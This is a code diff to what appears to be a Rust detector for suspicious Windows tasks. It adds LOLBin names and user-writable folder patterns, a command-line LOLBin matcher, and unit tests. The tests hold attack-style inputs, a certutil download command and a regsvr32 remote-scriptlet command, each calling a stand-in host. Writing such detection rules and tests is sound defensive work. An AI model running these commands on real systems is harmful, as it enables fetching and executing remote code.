@@ -20,6 +20,15 @@ const LOLBINS: &[&str] = &[
     "wmic.exe",
     "msiexec.exe",
     "forfiles.exe",
+    "cmstp.exe",
+    "odbcconf.exe",
+    "msxsl.exe",
+    "mavinject.exe",
+    "hh.exe",
+    "msdt.exe",
+    "pcalua.exe",
+    "infdefaultinstall.exe",
+    "syncappvpublishingserver.exe",
 ];
 
 const SCRIPT_HOSTS: &[&str] = &[
@@ -42,25 +51,72 @@ pub(crate) fn is_lolbin(image: &str) -> bool {
     LOLBINS.contains(&n.as_str())
 }
 
+/// The first LOLBin a command line starts (a word naming one, with or without `.exe` or a
+/// path), as its file name.
+pub(crate) fn lolbin_in(args: &str) -> Option<&'static str> {
+    let l = lower(args);
+    l.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '(' | ';' | '&' | '|'))
+        .filter(|w| !w.is_empty())
+        .find_map(|w| {
+            let name = file_name(w);
+            LOLBINS
+                .iter()
+                .find(|b| name == **b || b.strip_suffix(".exe") == Some(name))
+                .copied()
+        })
+}
+
 /// True when `image` is a script host.
 pub(crate) fn is_script_host(image: &str) -> bool {
     let n = lower(file_name(image));
     SCRIPT_HOSTS.contains(&n.as_str())
 }
 
+/// Folders any user can write to, as they appear in command lines (lower case), and the name a
+/// finding gives them. More specific entries first.
+const USER_WRITABLE: &[(&str, &str)] = &[
+    ("\\users\\public\\", "Users\\Public"),
+    ("%public%", "Users\\Public"),
+    ("$env:public", "Users\\Public"),
+    ("\\appdata\\", "AppData"),
+    ("%appdata%", "AppData"),
+    ("%localappdata%", "AppData"),
+    ("$env:appdata", "AppData"),
+    ("$env:localappdata", "AppData"),
+    ("\\temp\\", "Temp"),
+    ("%temp%", "Temp"),
+    ("%tmp%", "Temp"),
+    ("$env:temp", "Temp"),
+    ("\\programdata\\", "ProgramData"),
+    ("%programdata%", "ProgramData"),
+    ("$env:programdata", "ProgramData"),
+    ("\\windows\\tasks\\", "Windows\\Tasks"),
+    ("\\windows\\tracing\\", "Windows\\Tracing"),
+    ("\\spool\\drivers\\color\\", "spool\\drivers\\color"),
+    ("\\downloads\\", "Downloads"),
+    ("%userprofile%", "a user profile"),
+    ("$env:userprofile", "a user profile"),
+    ("c:\\users\\", "a user profile"),
+];
+
 /// A user-writable location mentioned in `s`, if any.
 pub(crate) fn user_writable(s: &str) -> Option<&'static str> {
+    user_writable_path(s).map(|(w, _)| w)
+}
+
+/// A user-writable location mentioned in `s`, and the path (the word of `s`) that names it.
+pub(crate) fn user_writable_path(s: &str) -> Option<(&'static str, &str)> {
     let l = lower(s);
-    [
-        ("\\temp\\", "Temp"),
-        ("%temp%", "Temp"),
-        ("\\appdata\\", "AppData"),
-        ("\\users\\public\\", "Users\\Public"),
-        ("\\programdata\\", "ProgramData"),
-    ]
-    .into_iter()
-    .find(|(k, _)| l.contains(k))
-    .map(|(_, v)| v)
+    // The word around a match: from the last separator before it to the next after it.
+    let word_start = |at: usize| s[..at].rfind([' ', '"', '\'', '=', '(']).map_or(0, |i| i + 1);
+    let (start, _, at, label) = USER_WRITABLE
+        .iter()
+        .enumerate()
+        .filter_map(|(n, (k, v))| l.find(k).map(|i| (word_start(i), n, i, *v)))
+        // The first path of the command line; within it, the most specific folder.
+        .min()?;
+    let end = s[at..].find([' ', '"', '\'', ')']).map_or(s.len(), |i| at + i);
+    Some((label, &s[start..end]))
 }
 
 /// True for a GUID-like or randomly cased name (`CYAlyNSS`, `bouWFQYO`, `{6E3F…}`).
@@ -177,8 +233,11 @@ pub(crate) fn process_findings(
             "cmd /c redirecting output to a user-writable path".into(),
         );
     }
-    if let Some(w) = user_writable(image).or_else(|| user_writable(cmd)) {
-        push(TaskReason::UserWritablePath, format!("{name} uses a path under {w}"));
+    if let Some((w, path)) = user_writable_path(image).or_else(|| user_writable_path(cmd)) {
+        push(
+            TaskReason::UserWritablePath,
+            format!("{name} uses a path under {w}: {path}"),
+        );
     }
 }
 
@@ -191,6 +250,36 @@ fn split_flags(l: &str) -> impl Iterator<Item = &str> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn lolbins_through_a_shell_and_writable_paths_with_their_text() {
+        assert_eq!(
+            lolbin_in(r#"/c "certutil -urlcache -f http://x/a a.exe""#),
+            Some("certutil.exe")
+        );
+        assert_eq!(
+            lolbin_in(r"-c C:\Windows\System32\regsvr32.exe /s /i:http://x scrobj.dll"),
+            Some("regsvr32.exe")
+        );
+        assert_eq!(lolbin_in("/c echo rundll32ish"), None);
+        assert_eq!(
+            user_writable_path(r#"rundll32.exe "C:\ProgramData\u.dll",Run"#),
+            Some(("ProgramData", r"C:\ProgramData\u.dll"))
+        );
+        assert_eq!(
+            user_writable_path(r"powershell -f $env:TEMP\a.ps1"),
+            Some(("Temp", r"$env:TEMP\a.ps1"))
+        );
+        assert_eq!(
+            user_writable_path(r"cmd /c C:\Windows\Tasks\x.bat"),
+            Some((r"Windows\Tasks", r"C:\Windows\Tasks\x.bat"))
+        );
+        assert_eq!(
+            user_writable_path(r"C:\Users\bob\x.exe"),
+            Some(("a user profile", r"C:\Users\bob\x.exe"))
+        );
+        assert_eq!(user_writable_path(r"%windir%\system32\sc.exe start x"), None);
+    }
 
     #[test]
     fn names() {
